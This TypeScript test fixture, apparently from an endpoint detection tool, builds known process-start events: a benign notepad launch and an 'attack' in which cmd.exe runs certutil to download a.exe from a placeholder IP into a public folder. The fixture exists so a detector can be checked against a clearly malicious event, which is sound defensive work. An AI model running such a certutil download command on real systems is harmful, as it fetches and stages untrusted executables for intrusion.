import type { ProcessEvent } from '../../event/index.ts';

const system32 = 'C:\\Windows\\System32\\';

const told = {
  attack: {
    name: 'certutil.exe',
    executable: `${system32}certutil.exe`,
    commandLine: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
    parent: { name: 'cmd.exe', executable: `${system32}cmd.exe` },
  },
  ordinary: {
    name: 'notepad.exe',
    executable: `${system32}notepad.exe`,
    commandLine: `"${system32}notepad.exe" C:\\Users\\anna\\Documents\\notes.txt`,
    parent: { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe' },
  },
} as const;

/** A process start whose judgement anybody would agree with. */
export function createKnownStart(what: keyof typeof told): ProcessEvent {
  const { name, executable, commandLine, parent } = told[what];
  return {
    kind: 'start',
    id: `known-${what}`,
    timeMs: Date.UTC(2026, 0, 5, 9),
    timestamp: '2026-01-05T09:00:00.000Z',
    action: 'start',
    provider: 'etw',
    position: { source: 'doctor', record: 1, offset: 0 },
    host: { id: undefined, name: 'KNOWN' },
    user: { id: undefined, name: 'anna', domain: 'KNOWN', groups: undefined },
    process: {
      pid: 4_240,
      entityId: undefined,
      name,
      executable,
      commandLine,
      args: undefined,
      startMs: Date.UTC(2026, 0, 5, 9),
      workingDirectory: undefined,
      originalFileName: undefined,
      pe: { company: undefined, description: undefined, product: undefined, fileVersion: undefined },
      hash: { md5: undefined, sha1: undefined, sha256: undefined, imphash: undefined },
      signature: { exists: undefined, trusted: undefined, subjectName: undefined, status: undefined },
      token: {
        integrityLevel: undefined,
        elevated: undefined,
        elevationType: undefined,
        winlogElevationType: undefined,
        mandatoryLabel: undefined,
      },
      logonId: undefined,
      parent: { pid: 3_300, entityId: undefined, commandLine: undefined, startMs: undefined, ...parent },
    },
  };
}
